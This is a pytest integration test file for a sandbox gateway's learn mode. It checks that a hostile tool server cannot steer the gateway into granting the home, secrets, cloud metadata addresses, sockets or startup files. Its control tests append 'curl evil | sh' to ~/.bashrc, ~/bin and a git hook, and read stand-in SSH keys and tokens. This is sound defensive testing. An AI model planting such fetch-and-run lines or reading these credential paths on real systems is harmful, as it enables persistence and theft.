"""A server steering `learn: true`: what it makes its jail refuse while `cellblock serve` traces it
must never become a grant of the home, `/`, a parent of a secret or of Cellblock's own directories,
an IP range or a name that is not a host, however it spells them; what `scan --from-learned
--apply` writes is judged by the config it leaves and by what the server can do on its next start.
Each test has its control: a legitimate refused path or host is still proposed and written, and
the grant the attack asked for, written by hand, lets the same server do the harm."""

from __future__ import annotations

import shutil
import socket
import sys
from pathlib import Path
from typing import Any

import mcp.types as types
import pytest
import yaml

from cellblock.gateway.scan.run import Decoy
from cellblock.gateway.scan.vet import MOST
from tests.integration.conftest import cli, eventually, gateway, hidden_service, write_config

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.jail,
    pytest.mark.skipif(shutil.which("bwrap") is None or shutil.which("strace") is None, reason="needs bwrap, strace"),
]

STEERING = Path(__file__).resolve().parents[1] / "servers" / "steering.py"
BASHRC = "# the user's own\n"


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


def steering(learn: bool = True, **jail: Any) -> dict[str, Any]:
    return {
        "command": sys.executable,
        "args": [str(STEERING)],
        "learn": learn,
        "jail": {"read_only": [str(STEERING.parent)], **jail},
    }


def _text(result: types.CallToolResult) -> str:
    return " ".join(c.text for c in result.content if isinstance(c, types.TextContent))


def jail_of(config: Path) -> dict[str, Any]:
    return dict(yaml.safe_load(config.read_text())["servers"]["steer"]["jail"])


def a_home(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """A home of the test's own (never the real one) with a shell profile, a key, a symlink to
    itself, and the environment that makes it the home of the gateway and the CLI."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("KEY\n")
    (home / ".bashrc").write_text(BASHRC)
    (home / "wanted.toml").write_text("wanted = true\n")
    (home / "homelink").symlink_to(home)
    (home / ".config").mkdir()
    env = {"HOME": str(home), "CELLBLOCK_STATE_DIR": str(tmp_path / "state")}
    for variable in ("XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME"):
        env[variable] = str(home / f".{variable.lower()}")
    return home, env


async def learn_from(config: Path, env: dict[str, str], calls: list[tuple[str, dict[str, Any]]]) -> None:
    """Serve `config`, make each call of the steering server, and wait for its learn trace."""
    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
        for tool, arguments in calls:
            result = await client.call_tool(f"steer__{tool}", arguments)
            assert not result.is_error, result
    folder = Path(env["CELLBLOCK_STATE_DIR"]) / "learn" / "steer"
    await eventually(lambda: any(folder.glob("*.trace")))


async def harm(config: Path, env: dict[str, str], home: Path) -> tuple[str, str]:
    """What the server gets on a start with the jail in `config`: appending to ~/.bashrc, reading ~/.ssh."""
    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
        wrote = await client.call_tool("steer__append", {"path": str(home / ".bashrc"), "text": "curl evil | sh\n"})
        read = await client.call_tool("steer__read", {"path": str(home / ".ssh" / "id_rsa")})
    return _text(wrote), _text(read)


async def test_learn_never_proposes_the_home_or_root_however_the_path_is_spelled(tmp_path: Path) -> None:
    home, env = a_home(tmp_path)
    data = tmp_path / "data" / "out.txt"
    data.parent.mkdir()
    data.write_text("")
    config = write_config(tmp_path, {"steer": steering()})
    spelled = [
        f"{home}/missing/..",  # collapsed, the home; as the kernel saw it, a missing directory
        "/missing/..",
        f"{home}/.ssh/../missing/..",
        f"{home}/.ssh/..",  # the host has it (the home), the jail does not
        f"{home}/homelink",  # a link to the home, outside every grant
        f"{home}/homelink/.",
        f"{home}/.//",
        f"/{home}",
        f"{home}/./.ssh",
        f"{home}/.config",  # holds Cellblock's own config directory
        str(tmp_path / "state"),  # Cellblock's own
        str(tmp_path / "cellblock.yaml"),
    ]
    wanted = str(home / "wanted.toml")
    read = {"paths": [*spelled, wanted]}
    written = {"paths": [f"{home}/.ssh/../.bashrc", *spelled, str(data)], "write": True}
    await learn_from(config, env, [("open", read), ("open", written)])

    shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
    assert shown.returncode == 0, shown.stderr
    jail = jail_of(config)
    # the control: a file the jail refused is still proposed, read-only and read_write
    assert jail["read_only"] == [str(STEERING.parent), wanted], shown.stdout
    assert jail["read_write"] == [str(data)], shown.stdout
    assert "not proposed" in shown.stdout
    assert cli(env, "check", "--config", str(config)).returncode == 0

    # on its next start, the grants written let it neither write the profile nor read the key
    wrote, read = await harm(config, env, home)
    assert (home / ".bashrc").read_text() == BASHRC, wrote
    # (its kept home holds what it wrote while learning: `.ssh` may be a file of its own there)
    assert read.startswith(("FileNotFoundError", "NotADirectoryError")) and "KEY" not in read, read


async def test_the_grant_the_attack_asked_for_lets_the_server_write_the_profile(tmp_path: Path) -> None:
    """Control: `read_write: [~]`, what the `..` spelling got proposed, does the harm."""
    home, env = a_home(tmp_path)
    config = write_config(tmp_path, {"steer": steering(learn=False, read_write=[str(home)])})
    wrote, read = await harm(config, env, home)
    assert wrote == "wrote" and (home / ".bashrc").read_text() == BASHRC + "curl evil | sh\n"
    assert read == "read 4 bytes"


async def test_learn_never_proposes_an_ip_range_or_a_name_that_is_not_a_host(tmp_path: Path) -> None:
    _, env = a_home(tmp_path)
    config = write_config(tmp_path, {"steer": steering()})
    decoy = Decoy()  # a service on the host's loopback
    try:
        port = str(decoy.port)
        names = [
            ["0", "0", "0", f"0/0:{port}"],  # a range, and a port for the service
            ["0", "0", "0", "0/0"],
            ["0.0.0.0/0"],
            ["10", "0", "0", "0/8"],
            ["*", "example", "com"],
            ["0", "0", "0", "0"],
            ["169", "254", "169", "254"],
            ["localhost"],
            ["evil", "example", f"com:{port}"],
            ["EVIL", "example", "com."],
            ["xn--", "example", "com"],
            ["a" * 63] * 5,
            ["api", "example", "org"],  # the control: a host name
        ]
        targets = [["0.0.0.0", port], ["169.254.169.254", "80"], ["192.0.2.7", "443"]]
        await learn_from(config, env, [("lookup", {"names": names}), ("connect", {"targets": targets})])
        shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
        assert shown.returncode == 0, shown.stderr
        jail = jail_of(config)
        assert jail["network"] == "allowlist"
        assert jail["allow_hosts"] == ["api.example.org", "192.0.2.7:443"], shown.stdout

        # the proxy, started with what was written, does not reach the host's own service
        async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
            fetched = await client.call_tool("steer__fetch", {"url": f"http://127.0.0.1:{port}/"})
        assert "403" in _text(fetched), fetched
        assert decoy.reached == 0
    finally:
        decoy.close()


async def test_a_range_in_allow_hosts_lets_the_proxy_reach_the_hosts_own_service(tmp_path: Path) -> None:
    """Control: `0.0.0.0/0:PORT`, what the lookup spelled, opens the host's loopback to the server."""
    _, env = a_home(tmp_path)
    decoy = Decoy()
    try:
        jail = {"network": "allowlist", "allow_hosts": [f"0.0.0.0/0:{decoy.port}"]}
        config = write_config(tmp_path, {"steer": steering(learn=False, **jail)})
        async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
            await client.call_tool("steer__fetch", {"url": f"http://127.0.0.1:{decoy.port}/"})
        await eventually(lambda: decoy.reached > 0)
    finally:
        decoy.close()


def what_runs_outside(home: Path) -> list[Path]:
    """Files of the user's that programs outside the jail run: a login's profile, the shell's
    startup file, programs run by name, a repository's hook."""
    found = [home / ".bashrc", home / ".profile", home / "bin" / "tool", home / ".local" / "bin" / "tool"]
    found.append(home / "proj" / ".git" / "hooks" / "pre-commit")
    for path in found:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(BASHRC)
    return found


async def test_learn_never_makes_writable_what_runs_outside_the_jail(tmp_path: Path) -> None:
    """Writes the jail refused (opened for writing without creating, so the empty home refuses them)
    become read_write only where nothing outside the jail runs what is written: not a startup file,
    ~/bin, ~/.local/bin, a repository's .git, nor a hidden grant moved from read_only, and not in
    two steps either (a read granted first, its write learned after). The control: a file of the
    user's and a read_only grant of theirs are still made writable, and the file is written."""
    home, env = a_home(tmp_path)
    runs = what_runs_outside(home)
    data = tmp_path / "data" / "out.txt"
    data.parent.mkdir()
    data.write_text("")
    shelf, settings = tmp_path / "shelf", home / ".config" / "tool"
    shelf.mkdir()
    settings.mkdir(parents=True)
    read_only = [str(STEERING.parent), str(shelf), str(settings)]
    config = write_config(tmp_path, {"steer": steering(read_only=read_only)})
    overwrite = {"paths": [*map(str, runs), str(data)], "mode": "r+"}
    into_grants = {"paths": [str(shelf / "new.txt"), str(settings / "new.toml")], "write": True}
    await learn_from(config, env, [("open", overwrite), ("open", into_grants), ("open", {"paths": [str(runs[0])]})])
    shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
    assert shown.returncode == 0, shown.stderr
    jail = jail_of(config)
    assert jail["read_write"] == [str(data), str(shelf)], shown.stdout  # the control
    assert jail["read_only"] == [str(STEERING.parent), str(settings), str(runs[0])], shown.stdout
    assert "a hidden entry" in shown.stdout and "where programs are kept" in shown.stdout

    # the second step: ~/.bashrc, now shown read-only, is written; the grant is not made writable
    await learn_from(config, env, [("append", {"path": str(runs[0]), "text": "x"})])
    again = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
    assert again.returncode == 0, again.stderr
    assert jail_of(config)["read_write"] == [str(data), str(shelf)], again.stdout

    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
        wrote = [await client.call_tool("steer__append", {"path": str(p), "text": "curl evil | sh\n"}) for p in runs]
        control = await client.call_tool("steer__append", {"path": str(data), "text": "a result\n"})
    assert [p.read_text() for p in runs] == [BASHRC] * len(runs), [_text(w) for w in wrote]
    assert _text(control) == "wrote" and data.read_text() == "a result\n"


async def test_the_write_grants_the_attack_asked_for_let_the_server_plant_code_outside_its_jail(
    tmp_path: Path,
) -> None:
    """Control: `read_write` of the files that run outside the jail, as learn proposed them before
    the gate refused them, lets the same server write each one."""
    home, env = a_home(tmp_path)
    runs = what_runs_outside(home)
    config = write_config(tmp_path, {"steer": steering(learn=False, read_write=[str(p) for p in runs])})
    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
        wrote = [await client.call_tool("steer__append", {"path": str(p), "text": "curl evil | sh\n"}) for p in runs]
    assert [_text(w) for w in wrote] == ["wrote"] * len(runs)
    assert all(p.read_text() == BASHRC + "curl evil | sh\n" for p in runs)


async def test_learn_proposes_a_few_hosts_at_once_never_a_network_spelled_one_address_at_a_time(
    tmp_path: Path,
) -> None:
    """Forty addresses of a private network, each one host the gate allows, are a range: a proposal
    adds at most MOST of them (the control: those it adds are written, and each is one host)."""
    _, env = a_home(tmp_path)
    config = write_config(tmp_path, {"steer": steering()})
    targets = [[f"10.9.0.{n}", "5432"] for n in range(1, 41)]
    await learn_from(config, env, [("connect", {"targets": targets})])
    shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
    assert shown.returncode == 0, shown.stderr
    jail = jail_of(config)
    assert jail["network"] == "allowlist"
    assert jail["allow_hosts"] == [f"10.9.0.{n}:5432" for n in range(1, MOST + 1)], shown.stdout
    assert f"allow_hosts + {40 - MOST} more" in shown.stdout


def linked_into_a_grant(tmp_path: Path) -> tuple[Path, dict[str, str], Path]:
    """A home with a link of the user's own (`~/worklink`) to a directory the server may write."""
    home, env = a_home(tmp_path)
    work = tmp_path / "data" / "work"
    work.mkdir(parents=True)
    (work / "x").write_text("benign\n")
    (home / "worklink").symlink_to(work)
    return home, env, work


async def relink_and_read(config: Path, env: dict[str, str], home: Path, work: Path) -> str:
    """What the server reads through ~/worklink/x at the start after the one where it put a link
    to ~/.ssh/id_rsa in place of its own file x."""
    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
        # the server's own doing: its target is relative, as no call names ~/.ssh (which is never shared)
        target = str(Path("../..") / (home / ".ssh" / "id_rsa").relative_to(work.parent.parent))
        linked = await client.call_tool("steer__link", {"path": str(work / "x"), "target": target})
    assert _text(linked) == "linked"
    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
        return _text(await client.call_tool("steer__read", {"path": str(home / "worklink" / "x")}))


async def test_learn_never_grants_a_path_that_leads_into_a_place_a_jail_may_write(tmp_path: Path) -> None:
    """~/worklink/x leads into the server's own read_write grant, shared/doc is in another server's:
    either, granted read-only, is whatever file a link put there before the next start makes it.
    The control: a file of the user's elsewhere is still proposed and written."""
    home, env, work = linked_into_a_grant(tmp_path)
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "doc").write_text("shared\n")
    servers = {"steer": steering(read_write=[str(work)]), "other": steering(learn=False, read_write=[str(shared)])}
    config = write_config(tmp_path, servers)
    wanted = str(home / "wanted.toml")
    await learn_from(config, env, [("open", {"paths": [str(home / "worklink" / "x"), str(shared / "doc"), wanted]})])
    shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
    assert shown.returncode == 0, shown.stderr
    assert jail_of(config)["read_only"] == [str(STEERING.parent), wanted], shown.stdout
    assert shown.stdout.count("where a jail may write") == 2, shown.stdout
    read = await relink_and_read(config, env, home, work)
    assert read.startswith("FileNotFoundError"), read


async def test_a_grant_that_leads_into_the_servers_own_grant_is_any_file_it_links_there(tmp_path: Path) -> None:
    """Control: ~/worklink/x granted read-only (what learn proposed) gives the server the key."""
    home, env, work = linked_into_a_grant(tmp_path)
    read_only = [str(STEERING.parent), str(home / "worklink" / "x")]
    config = write_config(tmp_path, {"steer": steering(learn=False, read_only=read_only, read_write=[str(work)])})
    assert await relink_and_read(config, env, home, work) == "read 4 bytes"


def a_service(tmp_path: Path) -> tuple[socket.socket, Path]:
    """A service of the user's behind a Unix socket the jail's socket finder does not know
    (`hidden_service`), so the gate is all that keeps a grant from reaching it."""
    sock = tmp_path / "run" / "db.sock"
    sock.parent.mkdir()
    return hidden_service(sock), sock


def dialer(sock: Path, learn: bool = True, **jail: Any) -> dict[str, Any]:
    """The steering server, dialing `sock` at each start."""
    server = steering(learn, **jail)
    return {**server, "args": [*server["args"], "--dial", str(sock)]}


async def test_learn_never_grants_a_socket_which_read_only_still_reaches_its_service(tmp_path: Path) -> None:
    """A socket (and a directory with one in it), opened as a file: the jail refused it and the
    host has it, but granted read-only it is connected to all the same. The control: a file of the
    user's is still proposed and written."""
    _, env = a_home(tmp_path)
    listening, sock = a_service(tmp_path)
    with listening:
        config = write_config(tmp_path, {"steer": dialer(sock)})
        wanted = str(tmp_path / "home" / "wanted.toml")
        await learn_from(config, env, [("open", {"paths": [str(sock), str(sock.parent), wanted]})])
        with pytest.raises(BlockingIOError):
            listening.accept()  # its dial at that start was refused
        shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
        assert shown.returncode == 0, shown.stderr
        assert jail_of(config)["read_only"] == [str(STEERING.parent), wanted], shown.stdout
        assert f"{sock} is a socket" in shown.stdout and f"holds {sock}, which is a socket" in shown.stdout
        async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
            await client.call_tool("steer__read", {"path": "/"})
        with pytest.raises(BlockingIOError):
            listening.accept()


async def test_a_socket_granted_read_only_is_connected_to_all_the_same(tmp_path: Path) -> None:
    """Control: `read_only` of the socket's directory, what learn proposed, lets the server reach
    the service. (A grant of the socket itself the jail refuses, as it does any socket.)"""
    _, env = a_home(tmp_path)
    listening, sock = a_service(tmp_path)
    with listening:
        jail = {"read_only": [str(STEERING.parent), str(sock.parent)]}
        config = write_config(tmp_path, {"steer": dialer(sock, learn=False, **jail)})
        async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
            await client.call_tool("steer__read", {"path": "/"})
        dialed, _ = listening.accept()
        with dialed:
            dialed.setblocking(True)
            assert dialed.recv(16) == b"dialed"


def a_home_copy(tmp_path: Path) -> Path:
    """A copy of the user's home, as a backup keeps it: its key included."""
    copy = tmp_path / "backup" / "home"
    (copy / ".ssh").mkdir(parents=True)
    (copy / ".ssh" / "id_rsa").write_text("KEY\n")
    (copy / "notes.txt").write_text("notes\n")
    return copy


async def test_learn_never_grants_a_home_under_another_name(tmp_path: Path) -> None:
    """A backup of the home (or any directory above one) holds the key as the home does: the
    server opens it, the jail refuses it, and it is not proposed. The control: a file in it is."""
    _, env = a_home(tmp_path)
    copy = a_home_copy(tmp_path)
    config = write_config(tmp_path, {"steer": steering()})
    await learn_from(config, env, [("open", {"paths": [str(copy), str(copy.parent), str(copy / "notes.txt")]})])
    shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
    assert shown.returncode == 0, shown.stderr
    assert jail_of(config)["read_only"] == [str(STEERING.parent), str(copy / "notes.txt")], shown.stdout
    assert shown.stdout.count("a home under another name") == 2, shown.stdout
    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
        read = _text(await client.call_tool("steer__read", {"path": str(copy / ".ssh" / "id_rsa")}))
    assert read.startswith("FileNotFoundError"), read


async def test_a_home_under_another_name_granted_gives_the_server_its_key(tmp_path: Path) -> None:
    """Control: the backup granted read-only, as learn proposed it, is read whole."""
    _, env = a_home(tmp_path)
    copy = a_home_copy(tmp_path)
    config = write_config(tmp_path, {"steer": steering(learn=False, read_only=[str(STEERING.parent), str(copy)])})
    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
        read = _text(await client.call_tool("steer__read", {"path": str(copy / ".ssh" / "id_rsa")}))
    assert read == "read 4 bytes"


def credentials(home: Path) -> list[Path]:
    """Tokens a home keeps under names of their own: git's, a cloud client's."""
    found = [home / ".git-credentials", home / ".config" / "gcloud" / "credentials.db"]
    for path in found:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("TOKEN\n")
    return found


async def test_learn_never_grants_a_token_the_home_keeps_under_a_name_of_its_own(tmp_path: Path) -> None:
    home, env = a_home(tmp_path)
    tokens = credentials(home)
    config = write_config(tmp_path, {"steer": steering()})
    wanted = str(home / "wanted.toml")
    await learn_from(config, env, [("open", {"paths": [*map(str, tokens), str(tokens[1].parent), wanted]})])
    shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
    assert shown.returncode == 0, shown.stderr
    assert jail_of(config)["read_only"] == [str(STEERING.parent), wanted], shown.stdout  # the control
    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
        read = [_text(await client.call_tool("steer__read", {"path": str(p)})) for p in tokens]
    assert all(r.startswith("FileNotFoundError") for r in read), read


async def test_a_token_file_granted_read_only_is_read(tmp_path: Path) -> None:
    """Control: the grants learn proposed before the gate knew these names give the server the tokens."""
    home, env = a_home(tmp_path)
    tokens = credentials(home)
    config = write_config(
        tmp_path, {"steer": steering(learn=False, read_only=[str(STEERING.parent), *map(str, tokens)])}
    )
    async with gateway(config, Path(env["CELLBLOCK_STATE_DIR"]), env=env) as client:
        read = [_text(await client.call_tool("steer__read", {"path": str(p)})) for p in tokens]
    assert read == ["read 6 bytes"] * 2


async def test_learn_never_allows_a_clouds_metadata_service_at_an_address_of_its_own(tmp_path: Path) -> None:
    """AWS's metadata over IPv6, Alibaba's, Azure's WireServer: each one address, none link-local;
    the control: an address of a host is still allowed."""
    _, env = a_home(tmp_path)
    config = write_config(tmp_path, {"steer": steering()})
    targets = [["fd00:ec2::254", "80"], ["100.100.100.200", "80"], ["168.63.129.16", "80"], ["192.0.2.7", "443"]]
    await learn_from(config, env, [("connect", {"targets": targets})])
    shown = cli(env, "scan", "steer", "--from-learned", "--apply", "--config", str(config))
    assert shown.returncode == 0, shown.stderr
    assert jail_of(config)["allow_hosts"] == ["192.0.2.7:443"], shown.stdout
    assert shown.stdout.count("a cloud's metadata service") == 3, shown.stdout
